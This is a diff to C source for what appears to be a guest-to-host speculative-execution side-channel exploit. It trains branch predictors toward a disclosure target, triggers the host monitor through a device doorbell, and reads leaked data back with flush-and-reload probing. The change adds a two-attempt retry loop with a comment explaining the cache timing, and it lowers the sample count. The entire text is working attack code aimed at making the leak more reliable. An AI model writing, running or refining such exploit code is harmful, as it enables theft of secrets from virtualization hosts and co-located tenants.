@@ -15,6 +15,8 @@
 #include "service.h"
 #include "train.h"
 
+enum { ATTEMPTS = 2 };
+
 /* Inside, where devices are. */
 static volatile uint64_t *const doorbell = (volatile uint64_t *)(1ULL << 40);
 
@@ -31,15 +33,22 @@ static long pages_to_displace;
 /* Inside: the probe, in the device's buffer. */
 static const uint8_t *const buffer = (const uint8_t *)MACHINE_BUFFER;
 
+/*
+ * The first attempt fetches the code that it sends the monitor to, if what the monitor and the host did before
+ * has displaced it, which takes what time there is. Right after that, it is near.
+ */
 static void sample_inside(void)
 {
 	__asm__ volatile("out %%al, %0" : : "i"(DISK_PORT) : "memory");
-	forget_histories();
-	displace(slow, pages_to_displace);
-	train((const uint8_t *)branch, disclosure);
-	flush_probe(buffer);
-	*doorbell = wanted;
-	shown = reload_probe(buffer);
+	shown = NOTHING;
+	for (int i = 0; i < ATTEMPTS && shown == NOTHING; i++) {
+		forget_histories();
+		displace(slow, pages_to_displace);
+		train((const uint8_t *)branch, disclosure);
+		flush_probe(buffer);
+		*doorbell = wanted;
+		shown = reload_probe(buffer);
+	}
 }
 
 static int sample(int index)
@@ -98,6 +107,6 @@ int main(int argc, char **argv)
 	send_descriptor(monitor, file);
 	if (write(monitor, &begin, sizeof(begin)) != sizeof(begin))
 		err(1, "monitor");
-	recover(sample, (struct patience){ .samples = 12, .lead = 2 }, 1);
+	recover(sample, (struct patience){ .samples = 8, .lead = 2 }, 1);
 	return 0;
 }
